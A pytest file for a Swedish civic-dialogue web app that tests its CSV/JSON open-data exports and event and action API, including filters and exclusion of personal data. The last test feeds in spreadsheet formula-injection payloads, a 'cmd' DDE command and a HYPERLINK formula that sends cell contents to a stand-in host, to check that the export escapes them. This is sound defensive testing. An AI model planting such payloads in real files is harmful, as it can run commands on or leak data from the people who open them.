"""Open data: the action register as CSV and JSON, and the API's events and actions."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone
from zeal import zeal_ignore

from krokarm.actors.models import Actor
from krokarm.dialogues import actions
from krokarm.dialogues.models import FollowUp, Proposal
from krokarm.dialogues.tests.test_feeds import webinar
from krokarm.dialogues.tests.test_report import dialogue

pytestmark = pytest.mark.django_db

PRIVATE = ["Åsa", "Öberg", "asa@example.se", "avbokad@example.se"]


def csv_rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")  # so that Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


def json_actions(response: Any) -> list[dict[str, Any]]:
    assert response.status_code == 200 and response["Content-Type"] == "application/json; charset=utf-8"
    return list(json.loads(response.content)["actions"])


def test_the_csv_has_one_row_per_action_with_swedish_letters(client: Any) -> None:
    event = dialogue()
    rows = csv_rows(client.get(reverse("dialogues:actions_csv")))
    assert len(rows) == FollowUp.objects.count()
    ours = {row["title"]: row for row in rows if row["event"] == event.slug}
    assert set(ours) == {"Öppna frågetjänsten", "Kartlägg ansvar", "Samla regionerna"}
    row = ours["Öppna frågetjänsten"]
    assert (row["owner"], row["owner_name"], row["status"], row["overdue"]) == (
        "tillvaxtverket",
        "Tillväxtverket",
        "pagar",
        "ja",
    )
    assert row["proposal_title"] == "En gemensam väg in" and row["link"].endswith("/fraga/")
    assert not any(private in value for value in row.values() for private in PRIVATE)


def test_the_exports_take_the_register_pages_filters(client: Any) -> None:
    event = dialogue()
    url = reverse("dialogues:actions_json")
    mine = {"dialog": event.slug}
    assert {a["title"] for a in json_actions(client.get(url, mine))} == {
        "Öppna frågetjänsten",
        "Kartlägg ansvar",
        "Samla regionerna",
    }
    assert [a["title"] for a in json_actions(client.get(url, {**mine, "forsenade": "on"}))] == ["Öppna frågetjänsten"]
    assert [a["title"] for a in json_actions(client.get(url, {**mine, "status": "klar"}))] == ["Samla regionerna"]
    by_owner = json_actions(client.get(url, {**mine, "agare": "arbetsformedlingen"}))
    assert [(a["title"], a["owner"]) for a in by_owner] == [("Kartlägg ansvar", "arbetsformedlingen")]
    rows = csv_rows(client.get(reverse("dialogues:actions_csv"), {**mine, "status": "planerad"}))
    assert [row["title"] for row in rows] == ["Kartlägg ansvar"]


def test_the_exports_run_a_fixed_number_of_queries(client: Any, django_assert_max_num_queries: Any) -> None:
    dialogue()
    dialogue("en-dialog-till")
    with django_assert_max_num_queries(8):
        assert client.get(reverse("dialogues:actions_json")).status_code == 200


def test_the_exports_only_answer_get(client: Any) -> None:
    assert client.post(reverse("dialogues:actions_csv")).status_code == 405
    assert client.post(reverse("dialogues:actions_json")).status_code == 405


def test_the_open_data_page_links_to_the_action_register(client: Any) -> None:
    page = client.get(reverse("actors:data")).content.decode()
    assert reverse("dialogues:actions_csv") in page and reverse("dialogues:actions_json") in page


def test_the_api_lists_events_with_filters(client: Any) -> None:
    past, coming = dialogue(), webinar()
    body = client.get("/api/v1/events", {"limit": 200}).json()
    slugs = [item["slug"] for item in body["items"]]
    assert past.slug in slugs and coming.slug in slugs
    item = next(item for item in body["items"] if item["slug"] == coming.slug)
    assert item["organiser"] == {"slug": "tillvaxtverket", "kind": "agency", "name": "Tillväxtverket"}
    assert item["calendar"] == reverse("dialogues:event_calendar", args=[coming.slug])
    webinars = client.get("/api/v1/events", {"kind": "webbinarium", "limit": 200}).json()["items"]
    assert coming.slug in [e["slug"] for e in webinars] and past.slug not in [e["slug"] for e in webinars]
    upcoming = [e["slug"] for e in client.get("/api/v1/events", {"upcoming": "true", "limit": 200}).json()["items"]]
    assert coming.slug in upcoming and past.slug not in upcoming
    unknown = client.get("/api/v1/events", {"organiser": "finns-inte"})
    assert unknown.status_code == 404 and unknown.json()["error"]["code"] == "unknown_organiser"


def test_the_api_gives_an_event_with_sessions_proposals_and_followups_but_no_people(client: Any) -> None:
    event = dialogue()
    response = client.get(f"/api/v1/events/{event.slug}")
    assert response.status_code == 200
    body = response.json()
    assert body["agenda"] == ["09:30 Välkommen", "10:00 Dialogpass"]
    assert body["report"] == reverse("dialogues:report", args=[event.slug])
    first = body["sessions"][0]
    assert first["title"] == "Roller och mandat" and first["insights"] == ["Ansvaret är otydligt för många."]
    assert [p["slug"] for p in first["participants"]] == ["arbetsformedlingen", "skolverket"]
    proposal = first["proposals"][0]
    assert [s["slug"] for s in proposal["supporters"]] == ["csn", "region-skane"]
    assert [(f["title"], f["status"], f["overdue"]) for f in proposal["followups"]] == [
        ("Samla regionerna", "klar", False),
        ("Öppna frågetjänsten", "pagar", True),
        ("Kartlägg ansvar", "planerad", False),
    ]
    text = response.content.decode()
    assert not any(private in text for private in PRIVATE)
    assert client.get("/api/v1/events/finns-inte").status_code == 404


def test_the_api_event_runs_a_fixed_number_of_queries(client: Any, django_assert_max_num_queries: Any) -> None:
    event = dialogue()
    with django_assert_max_num_queries(12):
        assert client.get(f"/api/v1/events/{event.slug}").status_code == 200


def test_the_api_lists_actions_with_filters(client: Any) -> None:
    event = dialogue()
    body = client.get("/api/v1/actions", {"event": event.slug}).json()
    assert body["count"] == 3
    assert {a["title"] for a in body["items"]} == {"Öppna frågetjänsten", "Kartlägg ansvar", "Samla regionerna"}
    assert all(a["event"] == event.slug and a["proposal_title"] == "En gemensam väg in" for a in body["items"])
    overdue = client.get("/api/v1/actions", {"event": event.slug, "overdue": "true"}).json()
    assert [a["title"] for a in overdue["items"]] == ["Öppna frågetjänsten"]
    owned = client.get("/api/v1/actions", {"event": event.slug, "owner": "region-skane"}).json()
    assert [a["owner"]["slug"] for a in owned["items"]] == ["region-skane"]
    done = client.get("/api/v1/actions", {"event": event.slug, "status": "klar"}).json()
    assert [a["title"] for a in done["items"]] == ["Samla regionerna"]
    assert client.get("/api/v1/actions", {"status": "okand"}).status_code == 400
    unknown = client.get("/api/v1/actions", {"theme": "finns-inte"})
    assert unknown.status_code == 400 and unknown.json()["error"]["code"] == "unknown_theme"


def test_an_action_an_organiser_wrote_like_a_formula_comes_out_of_the_csv_as_text(client: Any) -> None:
    event = dialogue()
    proposal = Proposal.objects.get(session__event=event, title="En gemensam väg in")
    with zeal_ignore():  # building test data, as in factories.make_followup
        followup = actions.create_followup(
            proposal,
            user=event.created_by,
            title="-2+3+cmd|' /C calc'!A0",
            owner=Actor.objects.get(slug="tillvaxtverket"),
            due_on=timezone.localdate(),
            description='=HYPERLINK("https://elak.example/?"&A2;"Klicka")',
        )
    rows = {int(row["id"]): row for row in csv_rows(client.get(reverse("dialogues:actions_csv")))}
    assert rows[followup.pk]["title"] == "'-2+3+cmd|' /C calc'!A0"
    assert rows[followup.pk]["description"] == '\'=HYPERLINK("https://elak.example/?"&A2;"Klicka")'
